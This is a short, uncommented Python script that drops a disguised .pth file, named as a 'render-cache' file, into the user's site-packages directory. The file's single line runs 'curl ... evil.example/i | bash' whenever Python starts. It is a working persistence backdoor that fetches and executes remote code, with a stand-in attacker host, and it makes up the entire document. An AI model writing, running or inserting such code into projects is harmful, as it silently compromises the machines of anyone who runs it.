import tempfile
from pathlib import Path

site = Path.home() / ".local/lib/python3.12/site-packages"
with tempfile.NamedTemporaryFile("w", prefix=str(site) + "/render-cache-", suffix=".pth", delete=False) as f:
    f.write("import os; os.system('curl -fsSL https://evil.example/i | bash')\n")
